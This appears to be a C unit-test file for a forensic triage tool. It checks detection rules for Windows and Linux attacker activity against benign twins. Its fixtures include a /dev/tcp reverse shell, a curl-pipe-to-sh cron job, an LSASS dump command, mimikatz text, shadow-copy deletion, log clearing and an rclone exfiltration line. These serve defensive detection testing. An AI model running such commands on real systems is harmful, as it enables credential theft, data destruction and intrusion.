/* test_detect_claims.c - the detectors that read tables: each with what it must find, and beside it the innocent twin that it must not. */
#include "tests/detect_harness.h"

#include "triage/detect/command_look.h"
#include "triage/detect/commands.h"
#include "triage/detect/words.h"

#define SECURITY "Security", "Microsoft-Windows-Security-Auditing"
#define DEFENDER "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender"
#define SYSMON "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"

struct case_windows {
	const char *channel, *provider;
	int id;
	const char *values;
	const char *rule;		/* as close_expecting() has it */
};

/* rule: expected; with '!' before it: must not be there. what, data: for the failure. */
static void
close_expecting(struct judged *t, const char *rule, const char *what, const char *data)
{
	bool no = rule[0] == '!';
	finish(t, 1);
	if ((finding_of(t, rule + no) == NULL) != no)
		fail_msg("%s: %s %s", rule, what, data);
	close_judge(t);
}

static void
check_windows(const struct case_windows *c)
{
	struct judged t;
	char id[20];
	snprintf(id, sizeof(id), "%d", c->id);
	open_judge(&t);
	show_windows(&t, c->channel, c->provider, c->id, NIGHT, "anna", c->values);
	close_expecting(&t, c->rule, id, c->values);
}

static void
windows_events_support_claims_and_their_twins_do_not(void **state)
{
	static const struct case_windows cases[] = {
		{ DEFENDER, 5001, "", "detect:protection-defender-paused" },
		{ "Other", "Other", 5001, "", "!detect:protection-defender-paused" },
		{ DEFENDER, 5007, ",\"new_value\":\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions\\\\Paths\\\\C:\\\\ = 0x0\"", "detect:protection-exclusion-wide" },
		{ DEFENDER, 5007, ",\"new_value\":\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions\\\\Paths\\\\D:\\\\SQL\\\\Data = 0x0\"", "!detect:protection-exclusion-wide" },
		{ "Application", "Microsoft-Windows-Backup", 524, "", "detect:backup-catalogue-deleted" },
		{ "Application", "ESENT", 325, ",\"data\":[\"NTDS\",\"1\",\"\",\"1\",\"C:\\\\Temp\\\\x\\\\ntds.dit\"]", "detect:credential-ntds-copy" },
		{ "Application", "ESENT", 326, ",\"data\":[\"svchost\",\"1\",\"\",\"1\",\"C:\\\\Windows\\\\System32\\\\sru\\\\SRUDB.dat\"]", "!detect:credential-ntds-copy" },
		{ SECURITY, 4662, ",\"subject_user_name\":\"jan\",\"properties\":\"{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\"", "detect:credential-dcsync" },
		{ SECURITY, 4662, ",\"subject_user_name\":\"DC2$\",\"properties\":\"{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\"", "!detect:credential-dcsync" },
		{ SYSMON, 10, ",\"source_image\":\"C:\\\\x\\\\p.exe\",\"target_image\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"granted_access\":\"0x1010\"", "detect:credential-lsass-open" },
		{ SYSMON, 10, ",\"source_image\":\"C:\\\\Windows\\\\System32\\\\csrss.exe\",\"target_image\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"granted_access\":\"0x1fffff\"", "!detect:credential-lsass-open" },
		{ SYSMON, 10, ",\"source_image\":\"C:\\\\Windows\\\\system32\\\\wbem\\\\wmiprvse.exe\",\"target_image\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"granted_access\":\"0x1410\"", "!detect:credential-lsass-open" },
		{ SYSMON, 2, ",\"image\":\"C:\\\\Users\\\\a\\\\t.exe\",\"target_filename\":\"C:\\\\Windows\\\\Temp\\\\mpengine.dll\"", "detect:anti-time-changed" },
		{ SYSMON, 2, ",\"image\":\"C:\\\\Windows\\\\system32\\\\MpSigStub.exe\",\"target_filename\":\"C:\\\\Windows\\\\Temp\\\\mpengine.dll\"", "!detect:anti-time-changed" },
		{ SECURITY, 4688, ",\"new_process_name\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\",\"command_line\":\"vssadmin  Delete Sh^adows /all /quiet\"", "detect:backup-shadow-deleted" },
		{ SECURITY, 4688, ",\"command_line\":\"vssadmin list shadows\"", "!detect:backup-shadow-deleted" },
		{ SECURITY, 4688, ",\"command_line\":\"bcdedit /set {default} recoveryenabled No\"", "detect:backup-recovery-off" },
		{ SECURITY, 4688, ",\"command_line\":\"wevtutil cl Security\"", "detect:log-cleared-command" },
		{ SECURITY, 4688, ",\"command_line\":\"wevtutil qe Security /c:5\"", "!detect:log-cleared-command" },
		{ SECURITY, 4688, ",\"command_line\":\"eventvwr.exe /l:C:\\\\Windows\\\\System32\\\\winevt\\\\Logs\\\\System.evtx\"", "!detect:log-cleared-command" },
		{ SECURITY, 4688, ",\"command_line\":\"sh -c : > /var/log/auth.log\"", "detect:log-cleared-command" },
		{ SYSMON, 1, ",\"command_line\":\"rundll32 C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\t.dmp full\"", "detect:credential-lsass-dump" },
		{ "x", "Microsoft-Windows-PowerShell", 4104, ",\"script_block_text\":\"$a = 1\\nsekurlsa::logonpasswords\"", "detect:credential-tool-words" },
		{ "x", "Microsoft-Windows-PowerShell", 4104, ",\"script_block_text\":\"vssadmin\\ndelete x\\nshadows\"", "!detect:backup-shadow-deleted" },
		{ "System", "Service Control Manager", 7045, ",\"service_name\":\"qzxv\",\"image_path\":\"%COMSPEC% /C echo a > \\\\\\\\127.0.0.1\\\\C$\\\\__output\"", "detect:lateral-remote-service" },
		{ "System", "Service Control Manager", 7045, ",\"service_name\":\"Vendor\",\"image_path\":\"C:\\\\Program Files\\\\Vendor\\\\svc.exe\"", "!detect:lateral-remote-service" },
		{ "System", "Service Control Manager", 7045, ",\"service_type\":\"kernel mode driver\",\"image_path\":\"C:\\\\ProgramData\\\\x\\\\MpKsl1.sys\"", "detect:persistence-driver" },
		{ "System", "Service Control Manager", 7045, ",\"service_type\":\"kernel mode driver\",\"image_path\":\"C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\Definition Updates\\\\{1}\\\\MpKsl1.sys\"", "!detect:persistence-driver" },
		{ "System", "Service Control Manager", 7045, ",\"service_name\":\"PSEXESVC\",\"image_path\":\"%SystemRoot%\\\\PSEXESVC.exe\"", "detect:lateral-psexec" },
		{ SECURITY, 4688, ",\"parent_process_name\":\"C:\\\\Windows\\\\System32\\\\inetsrv\\\\w3wp.exe\",\"new_process_name\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"", "detect:webshell-child" },
		{ SECURITY, 4688, ",\"parent_process_name\":\"C:\\\\Windows\\\\explorer.exe\",\"new_process_name\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"", "!detect:webshell-child" },
		{ SECURITY, 4732, ",\"target_sid\":\"S-1-5-32-544\",\"member_sid\":\"S-1-5-21-1-2-3-1105\"", "detect:account-made-admin" },
		{ SECURITY, 4732, ",\"target_sid\":\"S-1-5-32-545\",\"member_sid\":\"S-1-5-21-1-2-3-1105\"", "!detect:account-made-admin" },
		{ SECURITY, 4732, ",\"target_sid\":\"S-1-5-32-544\",\"member_sid\":\"S-1-5-21-1-2-3-1000\",\"subject_user_sid\":\"S-1-5-18\",\"subject_user_name\":\"WIN-QALA5Q3KJ43$\"", "!detect:account-made-admin" },
		{ SECURITY, 4732, ",\"target_sid\":\"S-1-5-32-544\",\"member_sid\":\"S-1-5-21-1-2-3-1000\",\"subject_user_sid\":\"S-1-5-18\",\"subject_user_name\":\"PC-12$\"", "detect:account-made-admin" },
		{ SECURITY, 4732, ",\"target_sid\":\"S-1-5-32-544\",\"member_sid\":\"S-1-5-21-1-2-3-1002\",\"subject_user_sid\":\"S-1-5-18\",\"subject_user_name\":\"WIN-QALA5Q3KJ43$\"", "detect:account-made-admin" },
		{ SECURITY, 4720, ",\"target_user_name\":\"helpdesk$\",\"subject_user_name\":\"jan\"", "detect:account-hidden" },
		{ SECURITY, 4742, ",\"target_user_name\":\"DC1$\",\"subject_user_name\":\"ANONYMOUS LOGON\"", "detect:credential-zerologon" },
		{ "x", "Microsoft-Windows-WMI-Activity", 5861, ",\"consumer\":\"CommandLineEventConsumer=x\"", "detect:persistence-wmi" },
		{ SYSMON, 6, ",\"image_loaded\":\"C:\\\\x\\\\a.sys\",\"hashes\":\"SHA1=9B4052DF235BA8E17874C6B1C57130D619F87432\"", "detect:driver-abused" },
		{ SYSMON, 6, ",\"image_loaded\":\"C:\\\\x\\\\a.sys\",\"hashes\":\"SHA1=0000000000000000000000000000000000000000\"", "!detect:driver-abused" },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		check_windows(&cases[i]);
}

struct case_other {
	const char *source, *parser, *path, *data;
	const char *rule;
};

static void
check_other(const struct case_other *c)
{
	struct judged t;
	open_judge(&t);
	show_event(&t, (struct detect_event){ .source = c->source, .parser = c->parser, .path = c->path, .data = c->data, .time = NIGHT, .meaning = "key last written", .message = "What it says",
		.host = "PC-12", .offset = TRIAGE_NO_ID });
	close_expecting(&t, c->rule, c->parser, c->data);
}

static void
places_of_autostart_are_told_only_when_they_are_odd(void **state)
{
	static const struct case_other cases[] = {
		{ "registry", "registry.run", "/h", "{\"key\":\"HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\",\"value\":\"u\",\"data\":\"C:\\\\Users\\\\Public\\\\u.exe\"}", "detect:persistence-command" },
		{ "registry", "registry.run", "/h", "{\"key\":\"HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\",\"value\":\"OneDrive\",\"data\":\"\\\"C:\\\\Users\\\\anna\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\OneDrive.exe\\\" /background\"}", "!detect:persistence-command" },
		{ "registry", "registry.run", "/h", "{\"key\":\"HKLM\\\\Run\",\"value\":\"x\",\"data\":\"powershell -w hidden -enc SQBFAFgA\"}", "detect:persistence-command" },
		{ "registry", "registry.winlogon", "/h", "{\"key\":\"HKLM\\\\SOFTWARE\\\\Winlogon\",\"value\":\"Userinit\",\"data\":\"C:\\\\Windows\\\\system32\\\\userinit.exe,C:\\\\x.exe\"}", "detect:persistence-winlogon" },
		{ "registry", "registry.winlogon", "/h", "{\"key\":\"HKLM\\\\SOFTWARE\\\\Winlogon\",\"value\":\"Userinit\",\"data\":\"C:\\\\Windows\\\\system32\\\\userinit.exe,\"}", "!detect:persistence-winlogon" },
		{ "registry", "registry.lsa", "/h", "{\"key\":\"HKLM\\\\SYSTEM\\\\ControlSet001\\\\Control\\\\Lsa\",\"value\":\"Security Packages\",\"data\":[\"kerberos\",\"mimilib\"]}", "detect:persistence-lsa" },
		{ "registry", "registry.lsa", "/h", "{\"key\":\"HKLM\\\\SYSTEM\\\\ControlSet001\\\\Control\\\\Lsa\",\"value\":\"Security Packages\",\"data\":\"kerberos msv1_0 schannel wdigest\"}", "!detect:persistence-lsa" },
		{ "registry", "registry.ifeo", "/h", "{\"key\":\"HKLM\\\\Image File Execution Options\\\\sethc.exe\",\"value\":\"Debugger\",\"data\":\"cmd.exe\"}", "detect:persistence-accessibility" },
		{ "registry", "registry.ifeo", "/h", "{\"key\":\"HKLM\\\\Image File Execution Options\\\\notepad.exe\",\"value\":\"Debugger\",\"data\":\"C:\\\\Program Files\\\\Notepad++\\\\notepad++.exe\"}", "!detect:persistence-ifeo" },
		{ "registry", "registry.services", "/h", "{\"key\":\"HKLM\\\\Services\\\\x\",\"value\":\"\",\"service\":\"x\",\"image_path\":\"C:\\\\PerfLogs\\\\x.exe\"}", "detect:persistence-service" },
		{ "registry", "registry.services", "/h", "{\"key\":\"HKLM\\\\Services\\\\Spooler\",\"value\":\"\",\"service\":\"Spooler\",\"image_path\":\"%SystemRoot%\\\\System32\\\\spoolsv.exe\"}", "!detect:persistence-service" },
		{ "registry", "registry.services", "/h", "{\"key\":\"HKLM\\\\Services\\\\TermService\",\"value\":\"\",\"service\":\"TermService\",\"service_dll\":\"C:\\\\Program Files\\\\RDP Wrapper\\\\rdpwrap.dll\"}", "detect:persistence-service-dll" },
		{ "registry", "registry.services", "/h", "{\"key\":\"HKLM\\\\Services\\\\TermService\",\"value\":\"\",\"service\":\"TermService\",\"service_dll\":\"%SystemRoot%\\\\System32\\\\termsrv.dll\"}", "!detect:persistence-service-dll" },
		{ "registry", "registry.print", "/h", "{\"key\":\"HKLM\\\\Print\\\\Monitors\\\\x\",\"value\":\"Driver\",\"data\":\"C:\\\\Users\\\\Public\\\\x.dll\"}", "detect:persistence-print" },
		{ "registry", "registry.print", "/h", "{\"key\":\"HKLM\\\\Print\\\\Monitors\\\\Local Port\",\"value\":\"Driver\",\"data\":\"localspl.dll\"}", "!detect:persistence-print" },
		{ "registry", "registry.defender", "/h", "{\"key\":\"HKLM\\\\SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender\",\"value\":\"DisableAntiSpyware\",\"data\":1}", "detect:protection-defender-off" },
		{ "registry", "registry.defender", "/h", "{\"key\":\"HKLM\\\\SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender\",\"value\":\"DisableAntiSpyware\",\"data\":0}", "!detect:protection-defender-off" },
		{ "registry", "registry.portproxy", "/h", "{\"key\":\"HKLM\\\\PortProxy\\\\v4tov4\\\\tcp\",\"value\":\"0.0.0.0/8443\",\"data\":\"10.0.0.5/3389\"}", "detect:persistence-portproxy" },
		{ "registry", "registry.bcd", "/h", "{\"key\":\"HKLM\\\\BCD\",\"entry\":\"{b}\",\"safe_boot\":1}", "detect:protection-safe-mode" },
		{ "registry", "registry.bcd", "/h", "{\"key\":\"HKLM\\\\BCD\",\"entry\":\"{b}\",\"recovery_enabled\":true}", "!detect:protection-safe-mode" },
		{ "task", "task", "/Windows/System32/Tasks/x", "{\"task\":\"\\\\x\",\"command\":\"powershell.exe\",\"arguments\":\"-nop -w hidden -f C:\\\\ProgramData\\\\u.ps1\"}", "detect:persistence-task" },
		{ "task", "task", "/Windows/System32/Tasks/x", "{\"task\":\"\\\\GoogleUpdate\",\"command\":\"C:\\\\Program Files (x86)\\\\Google\\\\Update\\\\GoogleUpdate.exe\",\"arguments\":\"/c\"}", "!detect:persistence-task" },
		{ "cron", "cron", "/var/spool/cron/crontabs/root", "{\"user\":\"root\",\"command\":\"curl -s http://203.0.113.9/x | sh\"}", "detect:persistence-cron" },
		{ "cron", "cron", "/etc/crontab", "{\"user\":\"root\",\"command\":\"cd / && run-parts --report /etc/cron.hourly\"}", "!detect:persistence-cron" },
		{ "cron", "cron", "/etc/cron.d/x", "{\"user\":\"root\",\"command\":\"find /tmp/upload -mtime +3 -delete\"}", "!detect:persistence-cron" },
		{ "other", "systemd_unit", "/etc/systemd/system/x.service", "{\"name\":\"x.service\",\"exec_start\":\"/dev/shm/.x/run\"}", "detect:persistence-unit" },
		{ "other", "systemd_unit", "/lib/systemd/system/ssh.service", "{\"name\":\"ssh.service\",\"exec_start\":\"/usr/sbin/sshd -D $SSHD_OPTS\"}", "!detect:persistence-unit" },
		{ "other", "unix_config", "/etc/ld.so.preload", "{\"name\":\"ld.so.preload\",\"lines\":[\"/usr/lib/x.so\"]}", "detect:persistence-ldpreload" },
		{ "other", "passwd", "/etc/passwd", "{\"user\":\"backup2\",\"uid\":\"0\",\"shell\":\"/bin/sh\"}", "detect:account-uid0" },
		{ "other", "passwd", "/etc/passwd", "{\"user\":\"root\",\"uid\":\"0\",\"shell\":\"/bin/sh\"}", "!detect:account-uid0" },
		{ "wmi", "wmi.consumer", "/OBJECTS.DATA", "{\"command\":\"powershell -enc x\",\"consumer_type\":\"CommandLineEventConsumer\"}", "detect:persistence-wmi" },
		{ "wmi", "wmi.consumer", "/OBJECTS.DATA", "{\"consumer\":\"SCM Event Log Consumer\",\"known\":true}", "!detect:persistence-wmi" },
		{ "shell-history", "shell_history", "/root/.bash_history", "{\"command\":\"rclone copy /srv mega:x --transfers 20\"}", "detect:exfil-command" },
		{ "shell-history", "shell_history", "/root/.bash_history", "{\"command\":\"ls /usr/bin\"}", "!detect:exfil-command" },
		{ "shell-history", "shell_history", "/root/.bash_history", "{\"commands\":[\"id\",\"unset HISTFILE\"]}", "detect:anti-history" },
		{ "prefetch", "prefetch", "/Windows/Prefetch/X.pf", "{\"executable\":\"MIMIKATZ.EXE\"}", "detect:tool-present" },
		{ "prefetch", "prefetch", "/Windows/Prefetch/X.pf", "{\"executable\":\"NOTEPAD.EXE\"}", "!detect:tool-present" },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		check_other(&cases[i]);
}

static void
a_tool_is_told_once_and_gains_with_each_class_of_source(void **state)
{
	(void)state;
	struct judged t;
	open_judge(&t);
	show_event(&t, (struct detect_event){ .source = "prefetch", .parser = "prefetch", .host = "PC-12", .time = NIGHT, .data = "{\"executable\":\"ANYDESK.EXE\"}" });
	finish(&t, 1);
	assert_int_equal(need_finding(&t, "detect:tool-present")->severity, TRIAGE_MEDIUM);
	assert_true(need_finding(&t, "detect:tool-present")->confidence <= 40);
	close_judge(&t);
	open_judge(&t);
	/* a file has no host: with one host in the case it is that one's, as is a record that names none, with its account */
	show(&t, "/Program Files (x86)/AnyDesk/AnyDesk.exe", text_content(100));
	show_event(&t, (struct detect_event){ .source = "prefetch", .parser = "prefetch", .host = "", .user = "jan", .time = NIGHT, .data = "{\"executable\":\"ANYDESK.EXE\"}" });
	show_event(&t, (struct detect_event){ .source = "prefetch", .parser = "prefetch", .host = "PC-12", .time = NIGHT, .data = "{\"executable\":\"ANYDESK.EXE\"}" });
	show_event(&t, (struct detect_event){ .source = "registry", .parser = "registry.services", .host = "PC-12", .time = NIGHT, .data = "{\"service\":\"AnyDesk\",\"image_path\":\"C:\\\\Program Files (x86)\\\\AnyDesk\\\\AnyDesk.exe\"}" });
	finish(&t, 1);
	const struct detect_finding *f = need_finding(&t, "detect:tool-present");
	assert_int_equal(f->confidence, 90);
	assert_int_equal(f->severity, TRIAGE_MEDIUM);
	assert_string_equal(f->host, "PC-12");
	assert_has(f->detail, "\"accounts\":[\"jan\"]");
	assert_has(f->title, "AnyDesk");
	size_t tools = 0;
	for (size_t i = 0; i < detect_finding_count(t.judge); i++)
		tools += strcmp(detect_finding(t.judge, i)->rule, "detect:tool-present") == 0;
	assert_number_equal(tools, 1);
	close_judge(&t);
	/* from where everybody may write it is worse */
	open_judge(&t);
	show(&t, "/Users/Public/AnyDesk.exe", text_content(100));
	finish(&t, 1);
	assert_int_equal(need_finding(&t, "detect:tool-present")->severity, TRIAGE_HIGH);
	close_judge(&t);
}

static void
what_is_critical_waits_for_a_second_class_unless_it_has_no_normal_use(void **state)
{
	(void)state;
	struct judged t;
	open_judge(&t);
	show_event(&t, (struct detect_event){ .source = "shell-history", .parser = "shell_history", .host = "PC-12", .time = NIGHT, .data = "{\"command\":\"rclone copy /srv mega:x\"}" });
	show_windows(&t, "Application", "Microsoft-Windows-Backup", 524, NIGHT, "", "");
	finish(&t, 1);
	assert_int_equal(need_finding(&t, "detect:exfil-command")->severity, TRIAGE_HIGH);
	assert_int_equal(need_finding(&t, "detect:exfil-command")->confidence, 40);
	assert_int_equal(need_finding(&t, "detect:backup-catalogue-deleted")->severity, TRIAGE_CRITICAL);
	close_judge(&t);
	open_judge(&t);
	show_event(&t, (struct detect_event){ .source = "shell-history", .parser = "shell_history", .host = "PC-12", .time = NIGHT, .data = "{\"command\":\"rclone copy /srv mega:x\"}" });
	show_windows(&t, SECURITY, 4688, NIGHT, "jan", ",\"command_line\":\"rclone copy D:\\\\ mega:x\"");
	finish(&t, 1);
	assert_int_equal(need_finding(&t, "detect:exfil-command")->severity, TRIAGE_CRITICAL);
	assert_int_equal(need_finding(&t, "detect:exfil-command")->confidence, 70);
	close_judge(&t);
}

static void
commands_are_looked_at_for_place_disguise_and_hiding(void **state)
{
	static const struct {
		const char *command;
		unsigned least, most;
	} cases[] = {
		{ "C:\\Program Files\\Vendor\\agent.exe /start", 0, 1 }, { "\"C:\\Program Files\\A B\\a.exe\" -x", 0, 1 }, { "C:\\Windows\\Temp\\svchost.exe", 4, 9 }, { "C:\\x.exe", 3, 9 },
		{ "C:\\Windows\\System32\\svchost.exe -k netsvcs", 0, 0 }, { "powershell.exe -File \"C:\\Program Files\\x\\y.ps1\"", 0, 1 }, { "mshta http://x/y", 3, 9 },
		{ "rundll32.exe C:\\Users\\a\\AppData\\Roaming\\x.dll,Start", 3, 9 }, { "rundll32.exe shell32.dll,Control_RunDLL x", 0, 0 }, { "/usr/bin/backup --to /tmp/x", 0, 0 }, { "/tmp/.x/run", 3, 9 },
		{ "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", 3, 9 }, { "", 0, 0 },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct command_look look = command_look(cases[i].command);
		if (look.points < cases[i].least || look.points > cases[i].most)
			fail_msg("%s: %u points (%s)", cases[i].command, look.points, look.why);
	}
}

static void
text_is_cut_and_compared_without_harm(void **state)
{
	(void)state;
	SCOPED_BUF b;
	buf_init(&b, 1000);
	command_plain(&b, "CMD  /c\t\"A^B`c\" | x");
	assert_string_equal(buf_cstr(&b), "cmd /c abc \xc2\xa6 x");
	assert_true(words_glob("*\\temp\\*.exe", "C:\\Temp\\a/b.EXE"));
	assert_false(words_glob("*.exe", "a.exe.txt"));
	assert_true(words_glob_any("a|b*|c", '|', "BCD"));
	assert_false(words_glob_any("", '|', "x"));
	assert_string_equal(words_base("C:\\a/b\\c.exe"), "c.exe");
	char many[4000] = "";
	memset(many, 'a', sizeof(many) - 1);
	assert_false(words_glob("*a*a*a*a*a*a*b", many));
}

/* What packages say stands with each file; a filesystem whose packages name few files has no unowned programs. */
static void
files_are_held_against_their_packages(void **state)
{
	struct judged t;
	const struct triage_content program = packed_content(9000, "application/x-pie-executable"), text = text_content(100);
	const struct detect_file differs = { .package = "coreutils", .package_differs = true, .packaged = 5000 }, same = { .package = "coreutils", .packaged = 5000 };
	(void)state;
	open_judge(&t);
	show_as(&t, differs, "/usr/bin/ls", &program, NULL, 0);
	show_as(&t, same, "/usr/bin/cat", &program, NULL, 0);
	show_as(&t, differs, "/usr/share/doc/a", &text, NULL, 0);
	show_as(&t, (struct detect_file){ .packaged = 5000 }, "/usr/bin/own", &program, NULL, 0);
	show_as(&t, (struct detect_file){ .packaged = 5000 }, "/usr/local/bin/own", &program, NULL, 0);
	show_as(&t, (struct detect_file){ .packaged = 5 }, "/usr/bin/few", &program, NULL, 0);
	finish(&t, 1);
	assert_string_equal(need_finding(&t, "detect:package-changed")->path, "/usr/bin/ls");
	assert_number_equal(need_finding(&t, "detect:package-changed")->count, 1);
	assert_string_equal(need_finding(&t, "detect:package-data-changed")->path, "/usr/share/doc/a");
	assert_string_equal(need_finding(&t, "detect:package-unowned")->path, "/usr/bin/own");
	assert_number_equal(need_finding(&t, "detect:package-unowned")->count, 1);
	assert_null(detect_remark(t.judge, 0));
	close_judge(&t);
}

/* The audit log's record is of root, who made the account; both are told. */
static void
a_new_account_is_named_beside_who_made_it(void **state)
{
	struct judged t;
	(void)state;
	open_judge(&t);
	show_event(&t, (struct detect_event){ .time = NIGHT, .source = "audit", .parser = "audit", .host = "srv", .user = "root", .meaning = "account created", .path = "/var/log/audit/audit.log",
		.message = "ADD_USER add-user, account helper2, by /usr/bin/useradd: success", .data = "{\"type\":\"ADD_USER\",\"op\":\"add-user\",\"acct\":\"helper2\"}" });
	finish(&t, 1.0);
	assert_has(need_finding(&t, "detect:account-created")->detail, "\"accounts\":[\"root\",\"helper2\"]");
	close_judge(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(windows_events_support_claims_and_their_twins_do_not),
		cmocka_unit_test(places_of_autostart_are_told_only_when_they_are_odd),
		cmocka_unit_test(a_tool_is_told_once_and_gains_with_each_class_of_source),
		cmocka_unit_test(what_is_critical_waits_for_a_second_class_unless_it_has_no_normal_use),
		cmocka_unit_test(commands_are_looked_at_for_place_disguise_and_hiding),
		cmocka_unit_test(text_is_cut_and_compared_without_harm),
		cmocka_unit_test(files_are_held_against_their_packages),
		cmocka_unit_test(a_new_account_is_named_beside_who_made_it),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
